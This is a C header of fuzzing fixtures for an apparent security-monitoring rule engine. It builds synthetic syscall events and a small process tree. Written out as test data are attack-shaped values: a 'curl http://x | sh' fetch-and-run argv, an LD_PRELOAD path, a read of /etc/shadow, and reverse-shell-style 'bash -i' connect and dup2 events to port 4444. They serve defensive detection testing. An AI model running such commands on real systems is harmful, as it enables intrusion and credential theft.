/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * A few fixed rule events for the fuzz targets to evaluate compiled
 * conditions and templates against: one each of the event kinds the default
 * rules look at, with text, number and list arguments, one with every
 * argument absent, and a process tree so ancestor fields (proc.pname,
 * proc.aname[N], proc.aexe) have something to walk.
 */
#pragma once

#include <stdlib.h>
#include <string.h>

#include "proctree.h"
#include "rule_event.h"

#define FUZZ_NEVENTS 8

struct fuzz_events {
	struct te_proctree *pt;
	struct te_rule_event ev[FUZZ_NEVENTS];
	size_t n;
};

static void fz_arg_str(struct te_rule_event *re, const char *name, const char *s)
{
	for (unsigned i = 0; i < re->desc->nargs; i++)
		if (strcmp(re->desc->args[i].name, name) == 0) {
			if (te_rv_type_of_fmt(re->desc->args[i].fmt) != TE_RV_STR)
				abort();
			re->args[i].type = TE_RV_STR;
			re->args[i].str = s;
			re->args[i].len = strlen(s);
			return;
		}
	abort(); /* the schema changed: fix fuzz_events_init() */
}

static void fz_arg_num(struct te_rule_event *re, const char *name, int64_t v)
{
	for (unsigned i = 0; i < re->desc->nargs; i++)
		if (strcmp(re->desc->args[i].name, name) == 0) {
			if (te_rv_type_of_fmt(re->desc->args[i].fmt) != TE_RV_NUM)
				abort();
			re->args[i].type = TE_RV_NUM;
			re->args[i].num = v;
			return;
		}
	abort();
}

/* @items: NUL-separated, @len bytes including the last NUL. */
static void fz_arg_list(struct te_rule_event *re, const char *name, const char *items, size_t len)
{
	for (unsigned i = 0; i < re->desc->nargs; i++)
		if (strcmp(re->desc->args[i].name, name) == 0) {
			if (te_rv_type_of_fmt(re->desc->args[i].fmt) != TE_RV_LIST)
				abort();
			re->args[i].type = TE_RV_LIST;
			re->args[i].str = items;
			re->args[i].len = len;
			return;
		}
	abort();
}

static struct te_rule_event *fz_new(struct fuzz_events *fe, const char *event, uint32_t pid,
				     uint32_t ppid, const char *comm, const char *exe,
				     const char *cmdline, uint32_t uid)
{
	struct te_rule_event *re = &fe->ev[fe->n++];

	memset(re, 0, sizeof(*re));
	re->desc = te_event_by_name(event);
	if (!re->desc)
		abort();
	re->time_ns = 1795840000123456789ULL + fe->n;
	re->pid = re->tid = re->ns_pid = re->ns_tid = pid;
	re->ppid = re->ns_ppid = ppid;
	re->uid = re->gid = uid;
	re->mntns = re->pidns = 4026531840u;
	re->comm = comm;
	re->exe = exe;
	re->cmdline = cmdline;
	re->container_id = "";
	re->hostname = "fuzzhost";
	return re;
}

static void fuzz_events_init(struct fuzz_events *fe)
{
	static const char argv_exec[] = "bash\0-c\0curl http://x | sh";
	static const char argv_gdb[] = "gdb\0-p\0" "4242";
	static const char env[] = "PATH=/usr/bin\0LD_PRELOAD=/tmp/x.so";
	struct te_rule_event *re;

	memset(fe, 0, sizeof(*fe));
	fe->pt = te_proctree_new(64);
	if (!fe->pt)
		abort();
	te_proctree_exec(fe->pt, 1, 0, "/usr/lib/systemd/systemd", 24, "/sbin/init", 11,
			 "systemd", 0);
	te_proctree_fork(fe->pt, 1, 700, 1, "sshd", 0);
	te_proctree_exec(fe->pt, 700, 1, "/usr/sbin/sshd", 14, "sshd\0-D", 8, "sshd", 0);
	te_proctree_fork(fe->pt, 700, 4000, 2, "bash", 1000);
	te_proctree_exec(fe->pt, 4000, 700, "/usr/bin/bash", 13, "-bash", 6, "bash", 1000);
	te_proctree_fork(fe->pt, 4000, 4242, 3, "gdb", 1000);

	re = fz_new(fe, "openat", 4242, 4000, "cat", "/usr/bin/cat", "cat /etc/shadow", 0);
	fz_arg_str(re, "dirfd", "AT_FDCWD");
	fz_arg_str(re, "pathname", "/etc/shadow");
	fz_arg_str(re, "flags", "O_RDONLY|O_CLOEXEC");
	fz_arg_num(re, "mode", 0644);
	re->retval = 3;

	re = fz_new(fe, "execve", 4000, 700, "bash", "/usr/bin/bash", "-bash", 1000);
	fz_arg_str(re, "pathname", "/usr/bin/curl");
	fz_arg_list(re, "argv", argv_exec, sizeof(argv_exec));
	fz_arg_list(re, "envp", env, sizeof(env));

	re = fz_new(fe, "sched_process_exec", 4242, 4000, "gdb", "/usr/bin/gdb", "gdb -p 4242",
		    1000);
	fz_arg_str(re, "cmdpath", "/usr/bin/gdb");
	fz_arg_str(re, "pathname", "/usr/bin/gdb");
	fz_arg_num(re, "is_memfd", 0);
	fz_arg_num(re, "inode", 1234567);
	fz_arg_list(re, "argv", argv_gdb, sizeof(argv_gdb));
	fz_arg_list(re, "env", "", 0);

	re = fz_new(fe, "ptrace", 4242, 4000, "gdb", "/usr/bin/gdb", "gdb -p 4242", 1000);
	fz_arg_str(re, "request", "PTRACE_TRACEME");
	fz_arg_num(re, "pid", 0);
	fz_arg_num(re, "addr", 0);
	fz_arg_num(re, "data", -1);

	re = fz_new(fe, "mprotect", 4000, 700, "node", "/memfd:x (deleted)", "node x.js", 1000);
	fz_arg_num(re, "addr", 0x7f0000000000);
	fz_arg_num(re, "len", 4096);
	fz_arg_str(re, "prot", "PROT_READ|PROT_WRITE|PROT_EXEC");
	fz_arg_str(re, "prev_prot", "PROT_READ|PROT_WRITE");
	re->container_id = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";

	re = fz_new(fe, "connect", 4000, 700, "bash", "/usr/bin/bash", "bash -i", 1000);
	fz_arg_num(re, "sockfd", 3);
	fz_arg_str(re, "addr", "AF_INET 10.0.0.1:4444");
	re->retval = -115;

	re = fz_new(fe, "dup2", 4000, 700, "bash", "/usr/bin/bash", "bash -i", 1000);
	fz_arg_num(re, "oldfd", 3);
	fz_arg_num(re, "newfd", 0);
	fz_arg_str(re, "oldfd_type", "socket");
	fz_arg_str(re, "remote", "AF_INET6 [::1]:80");

	/* every argument absent, unknown process (pid not in the tree), empty
	 * strings, truncated */
	re = fz_new(fe, "finit_module", 99999, 99998, "", "", "", 0);
	re->truncated = true;

	for (size_t i = 0; i < fe->n; i++) {
		struct te_proc *p = te_proctree_get(fe->pt, fe->ev[i].pid);

		fe->ev[i].pt = fe->pt;
		fe->ev[i].proc = p;
	}
}
